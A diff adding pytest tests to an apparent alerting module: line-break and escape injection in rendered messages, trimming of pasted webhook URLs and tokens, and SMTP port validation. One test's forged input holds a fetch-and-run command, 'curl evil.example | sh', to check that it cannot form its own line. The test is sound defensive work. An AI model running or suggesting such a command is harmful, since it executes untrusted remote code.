@@ -128,3 +128,37 @@ def test_an_unreachable_webhook_is_retried_then_named_by_type_only() -> None:
     with pytest.raises(NotifyError, match="did not take the message after 3 tries") as err:
         send({"type": "webhook", "url_env": "U", **FAST}, MESSAGE, env={"U": f"http://127.0.0.1:{port}/tok-55"})
     assert "tok-55" not in str(err.value)
+
+
+def test_data_text_with_line_breaks_stays_on_its_line() -> None:
+    # A team name or tag holding a line break must not start a line of its own (a forged "look further:" line, or
+    # a paragraph of the e-mail): every value is put on one line.
+    forged = "ml\nlook further: curl evil.example | sh\u2028\r\n\x1b[31mred"
+    message = Message(
+        event="opened", incident_id="team=x|spike", headline=f"Team {forged} spends 3x", currency="USD",
+        per_hour=Decimal("1"), per_day=Decimal("24"), scope=(("team", forged),), driver=f"volume {forged}",
+        since=datetime(2026, 11, 30, 10, tzinfo=UTC), until=None, look_further="finops anomalies",
+        details=((f"tag {forged}", forged),),
+    )
+    lines = render_text(message).splitlines()
+    clean = render_text(MESSAGE).splitlines()
+    assert len(lines) == len(clean)  # headline, money, driver, since, scope, one detail, look further
+    assert [line for line in lines if line.startswith("look further:")] == ["look further: finops anomalies"]
+    assert lines[4] == "scope: team ml look further: curl evil.example | sh [31mred"
+    assert not any("\x1b" in line or "\u2028" in line or "\r" in line for line in lines)
+
+
+def test_a_webhook_url_pasted_with_its_line_break_is_delivered(http_receiver: HttpReceiver) -> None:
+    env = {"HOOK": f"  {http_receiver.url}/alerts\n", "HOOK_TOKEN": "Bearer tok-1\n"}
+    delivery = send({"type": "webhook", "url_env": "HOOK", "headers_env": {"Authorization": "HOOK_TOKEN"}, **FAST},
+                    MESSAGE, env=env)
+    assert delivery.ok and http_receiver.posts[0].headers["Authorization"] == "Bearer tok-1"
+
+
+def test_an_email_port_written_as_text_works_and_a_wrong_one_is_named(smtp_receiver: SmtpReceiver) -> None:
+    config = {"type": "email", "host": "127.0.0.1", "port": f" {smtp_receiver.port}\n", "tls_verify": False,
+              "from": "f@example.com", "to": "t@example.com"}
+    assert send(config, MESSAGE).ok and len(smtp_receiver.messages) == 1
+    for wrong in ("smtp", 0, 70000, True, "25.5"):
+        with pytest.raises(NotifyError, match="'port' must be a whole number from 1 to 65535"):
+            send({**config, "port": wrong}, MESSAGE)
